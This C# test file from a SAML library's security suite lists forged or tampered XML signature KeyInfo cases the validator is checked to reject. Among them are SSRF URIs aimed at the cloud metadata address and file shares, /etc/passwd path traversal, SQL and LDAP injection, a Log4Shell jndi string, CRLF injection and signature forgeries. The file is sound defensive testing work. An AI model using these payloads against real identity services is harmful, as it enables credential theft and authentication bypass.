using System.Security.Cryptography;
using System.Security.Cryptography.X509Certificates;
using Saml.Core.Testing;
using Saml.Core.Tests.Signatures;
using Saml.Core.Tests.Validation;
using static Saml.Core.SamlErrorCode;
using static Saml.Core.Tests.Attacks.Attack;
using static Saml.Core.Tests.Signatures.SignatureText;

namespace Saml.Core.Tests.Attacks;

/// <summary>Group KY: by whose key. What KeyInfo says counts for nothing, whether it is the attacker's or the signer's.</summary>
internal static class KeyAttacks
{
    private const string Dsig11 = "xmlns:dsig11=\"http://www.w3.org/2009/xmldsig11#\"";
    private const string RsaSha256 = "http://www.w3.org/2001/04/xmldsig-more#rsa-sha256";
    private const string EcdsaSha256 = "http://www.w3.org/2001/04/xmldsig-more#ecdsa-sha256";

    private static readonly X509Certificate2 s_genuine = Keys.Rsa.Certificate;

    private static readonly (string Name, string KeyInfo)[] s_urls =
    [
        ("a URL", Retrieval("http://169.254.169.254/latest/meta-data/", "rawX509Certificate")),
        ("an https URL", Retrieval("https://192.0.2.1/key.xml", "X509Data")),
        ("a file", Retrieval("file:///etc/hostname", "rawX509Certificate")),
        ("a share", Retrieval("\\\\192.0.2.1\\share\\key", "X509Data")),
        ("itself", "<ds:KeyInfo Id=\"k\">" + Content(Retrieval("#k", "X509Data"))),
        ("each other", "<ds:KeyInfo><ds:RetrievalMethod Id=\"k1\" URI=\"#k2\"/><ds:RetrievalMethod Id=\"k2\" URI=\"#k1\"/></ds:KeyInfo>"),
        ("a URL with an XSLT", "<ds:KeyInfo><ds:RetrievalMethod URI=\"http://192.0.2.1/\"><ds:Transforms><ds:Transform Algorithm=\"http://www.w3.org/TR/1999/REC-xslt-19991116\"><xsl:stylesheet xmlns:xsl=\"http://www.w3.org/1999/XSL/Transform\" version=\"1.0\"/></ds:Transform></ds:Transforms></ds:RetrievalMethod></ds:KeyInfo>"),
        ("KeyInfoReference", $"<ds:KeyInfo {Dsig11}><dsig11:KeyInfoReference URI=\"http://192.0.2.1/key.xml\"/></ds:KeyInfo>"),
    ];

    private static readonly (string Name, string KeyInfo)[] s_names =
    [
        ("a path", Named("../../../../etc/passwd")),
        ("a path of Windows", Named("..\\..\\windows\\win.ini")),
        ("a file URL", Named("file:///etc/passwd")),
        ("SQL", Named("' OR 1=1; DROP TABLE keys; --")),
        ("LDAP", Named("*)(uid=*))(|(uid=*")),
        ("a template", Named("${jndi:ldap://192.0.2.1/x}")),
        ("line ends", Named("x&#13;&#10;Set-Cookie: a=b")),
        ("a null by number in base64", Named("AA==")),
        ("a long name", Named(new string('a', 100_000))),
    ];

    private static readonly (string Name, string KeyInfo)[] s_lookups =
    [
        ("X509IssuerSerial", Data($"<ds:X509IssuerSerial><ds:X509IssuerName>{s_genuine.Issuer}</ds:X509IssuerName><ds:X509SerialNumber>{RawRsaKey.Number(s_genuine.SerialNumberBytes.ToArray())}</ds:X509SerialNumber></ds:X509IssuerSerial>")),
        ("X509SubjectName", Data($"<ds:X509SubjectName>{s_genuine.Subject}</ds:X509SubjectName>")),
        ("X509SKI", Data($"<ds:X509SKI>{Base64(new X509SubjectKeyIdentifierExtension(s_genuine.PublicKey, false).SubjectKeyIdentifierBytes.ToArray())}</ds:X509SKI>")),
        ("X509Digest", $"<ds:KeyInfo {Dsig11}><ds:X509Data><dsig11:X509Digest Algorithm=\"http://www.w3.org/2001/04/xmlenc#sha256\">{Base64(SHA256.HashData(s_genuine.RawData))}</dsig11:X509Digest></ds:X509Data></ds:KeyInfo>"),
        ("the fingerprint as KeyName", Named(s_genuine.Thumbprint)),
        ("X509CRL", Data("<ds:X509CRL>AAAA</ds:X509CRL>")),
    ];

    public static IReadOnlyList<Attack> All { get; } =
    [
        // The attacker's own key and whatever speaks for it.
        .. Vector("KY-1", "key: signed by a stranger who embeds his certificate"),
        .. By("KY-1", "a self-signed certificate", Certificates(Attacker.SelfSigned)),
        .. By("KY-2", "a certificate with the same subject, issuer, serial number, dates and key identifier", Certificates(Attacker.Clone)),
        .. By("KY-2", "the same and X509IssuerSerial", Certificates(Attacker.Clone).Once("<ds:X509Data>", Content(s_lookups[0].KeyInfo).Once("</ds:X509Data></ds:KeyInfo>", ""))),
        .. By("KY-3", "RSAKeyValue", RsaKeyValue(Attacker.Rsa)),
        .. By("KY-3", "DEREncodedKeyValue", $"<ds:KeyInfo {Dsig11}><dsig11:DEREncodedKeyValue>{Base64(Attacker.Rsa.ExportSubjectPublicKeyInfo())}</dsig11:DEREncodedKeyValue></ds:KeyInfo>"),
        .. Forged("KY-3", "ECKeyValue", SignatureInvalid, new Forgery(Attacker.SignEcdsa)
        {
            EditSignedInfo = text => text.Once(RsaSha256, EcdsaSha256),
            KeyInfo = EcKeyValue(Attacker.P256),
            ServiceProvider = new() { Certificates = [Keys.P256.Certificate] },
            Twin = placement => SignedMessage.Mint(placement, signer: Keys.P256),
        }),
        .. Vector("KY-3", "key: signed by a stranger who embeds his bare key"),
        .. Vector("KY-4", "key: signed by a stranger who embeds the trusted certificate"),
        .. Vector("KY-4", "key: signed by a stranger who embeds nothing"),
        .. By("KY-4", "the trusted key, bare", RsaKeyValue(s_genuine.GetRSAPublicKey()!)),
        .. Vector("KY-5", "key: signed by a stranger who embeds both"),
        .. Vector("KY-5", "key: signed by a stranger who embeds both the other way round"),
        .. By("KY-5", "two X509Data, the trusted certificate first", Certificates(s_genuine).Once("</ds:KeyInfo>", Content(Certificates(Attacker.SelfSigned)))),
        .. By("KY-5", "two X509Data, the trusted certificate last", Certificates(Attacker.SelfSigned).Once("</ds:KeyInfo>", Content(Certificates(s_genuine)))),
        .. By("KY-5", "thirty certificates, the trusted one in the middle",
            Certificates([.. Enumerable.Repeat(Attacker.SelfSigned, 15), s_genuine, .. Enumerable.Repeat(Attacker.SelfSigned, 14)])),

        // A genuine signature, and KeyInfo changed, as nothing protects it.
        .. Vector("KY-6", "key: KeyInfo shows a stranger's certificate"),
        .. Vector("KY-6", "key: KeyInfo shows a stranger's key, bare"),
        .. Shown("KY-6", "a clone of the trusted certificate", Certificates(Attacker.Clone)),
        .. Vector("KY-7", "key: KeyInfo shows nothing at all"),
        .. Vector("KY-7", "key: KeyInfo shows empty"),
        .. Vector("KY-7", "key: KeyInfo shows a certificate that is none"),
        .. Vector("KY-7", "key: KeyInfo shows a certificate that is not base64"),
        .. Vector("KY-7", "key: KeyInfo shows an empty X509Data"),
        .. Vector("KY-7", "key: KeyInfo shows a certificate with a comment"),
        .. Vector("KY-7", "key: KeyInfo shows foreign content"),
        .. Vector("KY-7", "key: KeyInfo shows an Assertion"),
        .. Shown("KY-7", "PKCS #7", Data($"<ds:X509Certificate>{Base64(new X509Certificate2Collection(s_genuine).Export(X509ContentType.Pkcs7)!)}</ds:X509Certificate>")),
        .. Shown("KY-7", "PKCS #12", Data($"<ds:X509Certificate>{Base64(Attacker.SelfSigned.Export(X509ContentType.Pkcs12, "password"))}</ds:X509Certificate>")),
        .. Shown("KY-7", "half a certificate", Data($"<ds:X509Certificate>{Base64(s_genuine.RawData[..400])}</ds:X509Certificate>")),
        .. Shown("KY-7", "PEM", Data($"<ds:X509Certificate>{Keys.Rsa.CertificatePem}</ds:X509Certificate>")),
        .. Shown("KY-7", "a name alone", Named("key")),
        .. Shown("KY-7", "an RSAKeyValue of nothing", "<ds:KeyInfo><ds:KeyValue><ds:RSAKeyValue><ds:Modulus/><ds:Exponent/></ds:RSAKeyValue></ds:KeyValue></ds:KeyInfo>"),
        .. Shown("KY-7", "PGP and SPKI", "<ds:KeyInfo><ds:PGPData><ds:PGPKeyID>AAAA</ds:PGPKeyID></ds:PGPData><ds:SPKIData><ds:SPKISexp>AAAA</ds:SPKISexp></ds:SPKIData></ds:KeyInfo>"),

        // KeyInfo that would make us look somewhere.
        .. Vector("KY-8", "key: KeyInfo shows a URL to fetch"),
        .. Vector("KY-8", "key: KeyInfo shows itself"),
        .. BothWays("KY-8", s_urls),
        .. By("KY-9", "a name for the one, the trusted certificate for the other", Named("secret").Once("</ds:KeyInfo>", Content(Certificates(s_genuine)))),
        .. By("KY-9", "two names, the first the attacker's", Named("attacker").Once("</ds:KeyInfo>", Content(Named("trusted")))),
        .. By("KY-9", "a bare key for the one, the trusted certificate for the other", RsaKeyValue(Attacker.Rsa).Once("</ds:KeyInfo>", Content(Certificates(s_genuine)))),
        .. By("KY-9", "a security token reference for the one, the trusted certificate for the other",
            Certificates(s_genuine).Once("<ds:X509Data>", "<o:SecurityTokenReference xmlns:o=\"http://docs.oasis-open.org/wss/2004/01/oasis-200401-wss-wssecurity-secext-1.0.xsd\"><o:Reference URI=\"#id200\"/></o:SecurityTokenReference><ds:X509Data>")),
        .. Forged("KY-9", "HMAC with an EncryptedKey, the trusted certificate behind it", HmacNotAllowed, new Forgery(octets => HMACSHA256.HashData(Array.Empty<byte>(), octets))
        {
            EditSignedInfo = text => text.Once(RsaSha256, "http://www.w3.org/2001/04/xmldsig-more#hmac-sha256"),
            KeyInfo = Certificates(s_genuine).Once("<ds:X509Data>", "<xenc:EncryptedKey xmlns:xenc=\"http://www.w3.org/2001/04/xmlenc#\"><xenc:CipherData><xenc:CipherValue>AAAA</xenc:CipherValue></xenc:CipherData></xenc:EncryptedKey><ds:X509Data>"),
        }),
        .. Vector("KY-10", "key: KeyInfo shows a path as key name"),
        .. BothWays("KY-10", s_names),
        .. Vector("KY-11", "key: KeyInfo shows issuer and serial number"),
        .. BothWays("KY-11", s_lookups),

        // Certificates are no reason to trust a key.
        .. By("KY-12", "a certificate by an authority, with the trusted one's subject", Certificates(Attacker.Issued)),
        .. By("KY-12", "the same with the authority's", Certificates(Attacker.Issued, Attacker.Authority)),
        .. By("KY-14", "a certificate that names places to ask", Certificates(Attacker.Referring)),
        .. Shown("KY-14", "a certificate that names places to ask", Certificates(Attacker.Referring)),

        // Whose keys are trusted.
        Of("KY-17", "by another identity provider's key, under the name of this one", SignatureInvalid,
            vector => vector with { SignedBy = TestKeys.Other, Template = vector.Template with { Issuer = TestIdentityProvider.ExampleEntityId } }) with { Twin = UsualTwin },
        Of("KY-17", "by another identity provider's key, under its own name", ResponseIssuerMismatch,
            vector => vector with { SignedBy = TestKeys.Other, Template = vector.Template with { Issuer = TestKeys.Other.EntityId } }) with { Twin = UsualTwin },
        Of("KY-17", "by this identity provider's key, under the name of another", ResponseIssuerMismatch,
            vector => vector with { Template = vector.Template with { Issuer = TestKeys.Other.EntityId } }) with { Twin = UsualTwin },
        .. Vector("KY-19", "key: signed by the first of three"),
        .. Vector("KY-19", "key: signed by the second of three"),
        .. Vector("KY-19", "key: signed by the last of three"),
        .. Vector("KY-19", "key: signed by one that was removed"),
        .. Vector("KY-19", "key: signed by one that was removed, of two others"),
        .. Forged("KY-20", "a certificate with the trusted key and a curve of one's own", SignatureInvalid, new Forgery(octets => Attacker.SignWithOwnGenerator(Keys.P256.Certificate, octets))
        {
            EditSignedInfo = text => text.Once(RsaSha256, EcdsaSha256),
            KeyInfo = Certificates(Attacker.Certify(Attacker.WithOwnGenerator(Keys.P256.Certificate))),
            ServiceProvider = new() { Certificates = [Keys.P256.Certificate] },
            Twin = placement => SignedMessage.Mint(placement, signer: Keys.P256),
        }),
    ];

    private static byte[] UsualTwin() => new Vector().ToOctets();

    private static IEnumerable<Attack> By(string row, string name, string keyInfo) =>
        Forged(row, $"an attacker who embeds {name}", SignatureInvalid, new Forgery(Attacker.Sign) { KeyInfo = keyInfo });

    private static IEnumerable<Attack> Shown(string row, string name, string keyInfo) =>
        Changed(Bases.All, row, $"KeyInfo shows {name}", None, m => Edit(m.Xml, "KeyInfo", _ => keyInfo));

    private static IEnumerable<Attack> BothWays(string row, (string Name, string KeyInfo)[] forms) =>
        forms.SelectMany(form => By(row, form.Name, form.KeyInfo).Concat(Shown(row, form.Name, form.KeyInfo)));

    private static string Base64(byte[] octets) => Convert.ToBase64String(octets);

    private static string Data(string content) => $"<ds:KeyInfo><ds:X509Data>{content}</ds:X509Data></ds:KeyInfo>";

    private static string Certificates(params X509Certificate2[] certificates) => Data(string.Concat(
        certificates.Select(each => $"<ds:X509Certificate>{Base64(each.RawData)}</ds:X509Certificate>")));

    private static string Named(string name) => $"<ds:KeyInfo><ds:KeyName>{name}</ds:KeyName></ds:KeyInfo>";

    private static string Retrieval(string uri, string type) =>
        $"<ds:KeyInfo><ds:RetrievalMethod URI=\"{uri}\" Type=\"http://www.w3.org/2000/09/xmldsig#{type}\"/></ds:KeyInfo>";

    // What is inside a KeyInfo, and its end tag.
    private static string Content(string keyInfo) => keyInfo[(keyInfo.IndexOf('>') + 1)..];

    private static string RsaKeyValue(RSA key)
    {
        RSAParameters parameters = key.ExportParameters(includePrivateParameters: false);
        return $"<ds:KeyInfo><ds:KeyValue><ds:RSAKeyValue><ds:Modulus>{Base64(parameters.Modulus!)}</ds:Modulus>"
            + $"<ds:Exponent>{Base64(parameters.Exponent!)}</ds:Exponent></ds:RSAKeyValue></ds:KeyValue></ds:KeyInfo>";
    }

    private static string EcKeyValue(ECDsa key)
    {
        ECPoint point = key.ExportParameters(includePrivateParameters: false).Q;
        return $"<ds:KeyInfo {Dsig11}><ds:KeyValue><dsig11:ECKeyValue><dsig11:NamedCurve URI=\"urn:oid:1.2.840.10045.3.1.7\"/>"
            + $"<dsig11:PublicKey>{Base64([0x04, .. point.X!, .. point.Y!])}</dsig11:PublicKey></dsig11:ECKeyValue></ds:KeyValue></ds:KeyInfo>";
    }
}
